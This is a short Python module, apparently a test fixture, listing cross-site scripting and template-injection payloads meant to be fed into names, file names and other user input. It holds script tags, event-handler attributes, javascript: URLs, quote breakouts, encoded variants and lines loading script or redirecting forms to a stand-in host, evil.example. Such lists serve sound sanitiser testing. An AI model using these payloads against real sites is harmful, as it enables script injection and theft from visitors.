"""Texts by which somebody might try to run a script on a page: in names, reasons, file names, whatever is typed."""

from __future__ import annotations

PAYLOADS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<ScRiPt>alert(1)</sCrIpT>",
    "</script><script>alert(1)</script>", "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mtext><script>alert(1)</script>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<form action=//evil.example><input>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
    "<div style=background:url(//evil.example)>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>", "</td></table><script>alert(1)</script>",
    "<!--><script>alert(1)-->", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='", '" autofocus onfocus=alert(1) "', "` onmouseover=alert(1) `", "javascript:alert(1)",
    "\u2028<script>alert(1)</script>", "\u202e<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", '&"<>\'', "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)", "{{ 7 * 7 }}", "{% for x in ().__class__.__mro__ %}x{% endfor %}", "${7*7}",
    "#{7*7}", "{{ config }}", "<%= 7*7 %>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)  # fmt: skip
